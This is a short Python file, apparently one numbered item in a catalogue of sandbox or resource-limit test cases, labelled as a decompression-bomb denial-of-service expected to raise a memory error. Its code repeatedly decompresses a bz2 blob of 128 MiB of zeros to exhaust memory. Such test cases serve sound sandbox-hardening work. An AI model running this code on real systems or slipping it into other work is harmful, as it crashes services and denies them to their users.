# escape: 062
# technique: zlib/bz2/lzma decompression bomb
# family: dos
# goal: dos-mem
# expect: memory-error
# first-seen: folklore
import bz2
b = bz2.compress(bytes(1 << 27))
x = [bz2.decompress(b) for _ in range(60)]
print('DOS-DONE', len(b))
